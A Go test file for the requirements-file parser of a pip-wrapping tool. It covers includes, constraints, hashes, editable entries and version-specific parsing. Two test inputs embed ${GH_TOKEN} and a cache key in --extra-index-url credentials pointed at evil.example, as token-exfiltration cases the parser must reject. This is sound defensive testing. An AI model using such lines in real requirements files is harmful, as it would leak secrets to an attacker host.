package reqfile

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/pipguard/pipguard/installer/requirement"
)

func write(t *testing.T, dir, name, body string) string {
	t.Helper()
	p := filepath.Join(dir, name)
	os.MkdirAll(filepath.Dir(p), 0o755)
	if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

func TestParseFile(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "sub/more.txt", "requests>=2 ; python_version >= \"3.8\"  # pinned elsewhere\n-c constraints.txt\n")
	// A constraints file as pip reads it: its options are global, its
	// requirements constrain, and a -r in it names requirements.
	write(t, dir, "sub/constraints.txt", "--find-links ./wheels\nurllib3<3\n-r extra.txt\n")
	write(t, dir, "sub/extra.txt", "six==1.16\n")
	main := write(t, dir, "requirements.txt", `# guarded and plain requirements
--index-url https://pypi.example/simple
--no-index
demo @ git+https://github.com/acme/demo.git@v1.0.0 \
    ; python_version >= "3.8"
-r sub/more.txt
attrs==23.1.0 --hash=sha256:aaaa --hash sha256:bbbb

`)
	es, err := ParseFile(main)
	if err != nil {
		t.Fatal(err)
	}
	var kinds []string
	for _, e := range es {
		switch {
		case e.Option != nil:
			kinds = append(kinds, strings.Join(e.Option, " "))
		case e.Constraint:
			kinds = append(kinds, "constraint:"+e.Req.Name)
		default:
			kinds = append(kinds, string(e.Req.Kind)+":"+e.Req.Name)
		}
	}
	want := []string{"--index-url https://pypi.example/simple", "--no-index", "vcs:demo", "index:requests",
		"--find-links ./wheels", "constraint:urllib3", "index:six", "index:attrs"}
	if strings.Join(kinds, "|") != strings.Join(want, "|") {
		t.Errorf("got  %q\nwant %q", kinds, want)
	}
	if es[2].Line != 4 || es[2].Req.Marker != `python_version >= "3.8"` || es[2].Req.Kind != requirement.KindVCS {
		t.Errorf("continuation: %+v", es[2])
	}
	if h := es[7].Hashes(); len(h) != 2 || h[1] != "sha256:bbbb" {
		t.Errorf("hashes %v", h)
	}
}

func TestParseFileErrors(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "loop.txt", "-r loop.txt\n")
	write(t, dir, "bad-constraints.txt", "demo @ git+https://h/o/r@v1\n")
	for body, msg := range map[string]string{
		"-r loop.txt":                   "includes itself",
		"-e git+https://h/o/r@v1#egg=x": "editable git install",
		"-e ./local":                    "editable installs",
		"--frobnicate":                  `no such option: --frobnicate`,
		"--extra-index-url https://u:${GH_TOKEN}@evil.example/simple":           "refers to ${GH_TOKEN}: pipguard never hands a GitHub token",
		"--extra-index-url https://u:${PIPGUARD_CACHE_KEY}@evil.example/simple": "refers to ${PIPGUARD_CACHE_KEY}: pipguard never hands a GitHub token or its cache key",
		"-c bad-constraints.txt":    "a constraint must be a name with a version specifier, not a URL",
		"demo @ git+https://h/o/r@": "empty ref after @",
		"ok==1 --install-option=x":  "unsupported per-requirement option",
		"-r missing.txt":            "no such file",
	} {
		p := write(t, dir, "r.txt", "# first line\n"+body+"\n")
		_, err := ParseFile(p)
		if err == nil || !strings.Contains(err.Error(), msg) {
			t.Errorf("%q: err = %v, want %q", body, err, msg)
		}
		var e *Error
		if errors.As(err, &e) && e.Line != 2 && !strings.Contains(msg, "itself") && !strings.Contains(msg, "constraint") {
			t.Errorf("%q: line %d", body, e.Line)
		}
	}
}

// What pip 26 reads otherwise than pip 23 and 24 is refused, with the
// class the differential test counts.
func TestPip26DifferencesAreStrict(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "base.txt", "six==1.16\n")
	write(t, dir, "real/base.txt", "attrs==23.1\n")
	write(t, dir, "real/sub/up.txt", "-r ../base.txt\n")
	if err := os.Symlink(filepath.Join(dir, "real", "sub"), filepath.Join(dir, "link")); err != nil {
		t.Fatal(err)
	}
	for body, want := range map[string][2]string{
		"-r link/../base.txt":             {StrictNestedPath, "names two files"},
		"-r link/up.txt":                  {StrictNestedPath, "names two files"},
		"-c nodir/../base.txt":            {StrictNestedPath, "names two files"},
		"pkg==1.0 --global-option=--x":    {StrictOption, "pip 26 has no such option"},
		"--all-releases :all:":            {StrictOption, "exists in pip 26 only"},
		"--no-require-hashes":             {StrictOption, "exists in pip 26 only"},
		"--use-feature build-constraint":  {StrictOption, "exists in pip 26 only"},
		"--only :all:":                    {StrictOption, "pip 26 finds it ambiguous"},
		"Django-4.2-py3-none-any.whl":     {requirement.StrictWheelName, "pip 26 reads django==4.2"},
		"pkg-1.00-py3-none-any.whl":       {requirement.StrictWheelName, "pip 26 reads pkg==1.0"},
		"x @ https://h/x.tar.gz#egg=.bad": {requirement.StrictURLForm, "pip 26 refuses it"},
		"pkg-10-p y3-none-any.whl":        {requirement.StrictWheelName, "pip 26 reads it"},
	} {
		p := write(t, dir, "r.txt", body+"\n")
		_, err := ParseFile(p)
		if err == nil || !strings.Contains(err.Error(), want[1]) || strictOf(err) != want[0] {
			t.Errorf("%q: err = %v (strict %q), want %q (%s)", body, err, strictOf(err), want[1], want[0])
		}
	}
	// What every pip reads the same way is read.
	for _, body := range []string{"-r ./base.txt", "-r real/../base.txt", "-r real/sub/../base.txt", "my_pkg-1.0-py3-none-any.whl", "--index= --pre"} {
		p := write(t, dir, "r.txt", body+"\n")
		if _, err := ParseFile(p); err != nil {
			t.Errorf("%q: %v", body, err)
		}
	}
}

func TestEnvironmentVariablesExpandLikePip(t *testing.T) {
	t.Setenv("PIPGUARD_TEST_HOST", "github.com")
	p := write(t, t.TempDir(), "r.txt", "demo @ git+https://${PIPGUARD_TEST_HOST}/o/r.git@v1\nx==${UNSET_PIPGUARD_VAR}\n")
	_, err := ParseFile(p)
	if err == nil || !strings.Contains(err.Error(), "${UNSET_PIPGUARD_VAR}") {
		t.Fatalf("unset variable: %v", err)
	}
	os.WriteFile(p, []byte("demo @ git+https://${PIPGUARD_TEST_HOST}/o/r.git@v1\n"), 0o644)
	es, err := ParseFile(p)
	if err != nil || es[0].Req.VCS.Host != "github.com" {
		t.Fatalf("%+v %v", es, err)
	}
}

func TestMissingNestedFileNamesTheIncludingLine(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "sub/inner.txt", "six==1\n\n-c gone.txt\n")
	p := write(t, dir, "r.txt", "# first\n-r sub/inner.txt\n")
	_, err := ParseFile(p)
	var e *Error
	if !errors.As(err, &e) || e.File != filepath.Join(dir, "sub", "inner.txt") || e.Line != 3 ||
		!strings.Contains(e.Msg, "-c gone.txt: no such file") || !strings.Contains(e.Msg, filepath.Join(dir, "sub", "gone.txt")) {
		t.Fatalf("err = %#v", err)
	}
}

func TestEditableEntriesOnRequest(t *testing.T) {
	p := write(t, t.TempDir(), "r.txt", "-e git+https://h/o/r@v1#egg=x\n--editable=./local\nsix==1\n")
	if _, err := ParseFile(p); err == nil {
		t.Fatal("ParseFile accepted -e")
	}
	es, err := ParseFileOptions(p, Options{Editable: true})
	if err != nil || len(es) != 3 {
		t.Fatalf("%+v %v", es, err)
	}
	if !es[0].Editable || es[0].Line != 1 || es[0].Req == nil || es[0].Req.Kind != requirement.KindVCS {
		t.Errorf("vcs editable: %+v", es[0])
	}
	if !es[1].Editable || es[1].Line != 2 || es[1].ReqText != "./local" || es[1].Req != nil {
		t.Errorf("local editable: %+v", es[1])
	}
	if es[2].Editable {
		t.Errorf("six: %+v", es[2])
	}
}

// As pip joins lines: a whole-line comment that ends in a backslash does
// not swallow the next line; a requirement's trailing backslash does join.
func TestCommentEndingInBackslash(t *testing.T) {
	dir := t.TempDir()
	f := write(t, dir, "requirements.txt", "# see the wiki \\\nattrs==23.1.0\n  # indented too \\\nsix==1.16 \\\n  ; python_version >= \"3\"\n")
	es, err := ParseFile(f)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, e := range es {
		got = append(got, fmt.Sprintf("%d:%s", e.Line, e.Req.Name))
	}
	if strings.Join(got, " ") != "2:attrs 4:six" {
		t.Errorf("got %v, want attrs at line 2 and six at line 4", got)
	}
}

// As pip does: a relative --find-links directory is relative to the file
// that names it when it exists there (pipguard hands pip its own file, so
// the path must come out absolute).
func TestFindLinksRelativeToTheFile(t *testing.T) {
	dir := t.TempDir()
	os.MkdirAll(filepath.Join(dir, "sub", "wheels"), 0o755)
	write(t, dir, "sub/inner.txt", "--find-links wheels\n-f ./elsewhere\n--find-links https://example.com/w\n")
	f := write(t, dir, "requirements.txt", "-r sub/inner.txt\n")
	es, err := ParseFile(f)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{filepath.Join(dir, "sub", "wheels"), "./elsewhere", "https://example.com/w"}
	for i, e := range es {
		if e.Option[1] != want[i] {
			t.Errorf("find-links %d: %q, want %q", i, e.Option[1], want[i])
		}
	}
}
